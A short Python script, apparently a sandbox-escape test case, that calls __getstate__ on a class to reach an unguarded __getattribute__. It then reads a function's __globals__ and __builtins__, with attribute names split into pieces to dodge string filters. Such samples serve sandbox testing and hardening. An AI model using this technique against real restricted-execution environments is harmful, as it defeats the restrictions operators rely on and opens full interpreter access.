# unguarded: only some versions of CPython give the dict of a class so (3.11 does)
class Mine:
    pass


def function():
    pass


facts = getattr(Mine, "__getst" + "ate__")(object)
read = facts["__getattribute__"] if type(facts) is not tuple else facts[0]["__getattribute__"]
print("PWNED", read(function, "__glo" + "bals__")["__builtins__"])
